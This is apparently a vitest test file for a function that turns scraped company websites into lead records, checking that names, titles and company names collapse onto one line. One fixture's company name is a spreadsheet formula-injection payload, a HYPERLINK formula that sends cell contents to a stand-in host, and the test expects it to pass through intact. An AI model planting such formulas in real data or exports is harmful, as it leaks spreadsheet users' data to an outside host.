import { expect, it } from "vitest";
import { leadFromScrape, type ScrapedSite } from "./from-scrape";

const site = (over: Partial<ScrapedSite>): ScrapedSite => ({
  url: "https://acme.test",
  finalUrl: "https://acme.test/",
  status: "ok",
  company: { domain: "acme.test" },
  emails: [{ value: "ada@acme.test", sourceUrl: "https://acme.test/" }],
  phones: [],
  socials: [],
  people: [],
  pagesCrawled: 1,
  ...over,
});

it("stores names, titles and the company name on one line", () => {
  const draft = leadFromScrape(
    site({
      company: {
        domain: "acme.test",
        name: '=HYPERLINK("http://evil.invalid/?"&A1,\r\n"Acme Tools")',
      },
      people: [
        { name: "Ada\nLovelace", title: "Head of\r\n  Engineering", email: "ada@acme.test" },
      ],
    }),
  );
  expect(draft.company).toBe('=HYPERLINK("http://evil.invalid/?"&A1, "Acme Tools")');
  expect(draft.name).toBe("Ada Lovelace");
  expect(draft.title).toBe("Head of Engineering");
  expect(draft.people).toEqual([
    { name: "Ada Lovelace", title: "Head of Engineering", email: "ada@acme.test" },
  ]);
});

it("keeps a missing title missing and a blank company null", () => {
  const draft = leadFromScrape(
    site({ company: { domain: "acme.test", name: " \n " }, people: [{ name: "Ada" }] }),
  );
  expect(draft.company).toBeNull();
  expect(draft.people).toEqual([{ name: "Ada" }]);
  expect(draft.dedupeKey).toBe("ada@acme.test");
});
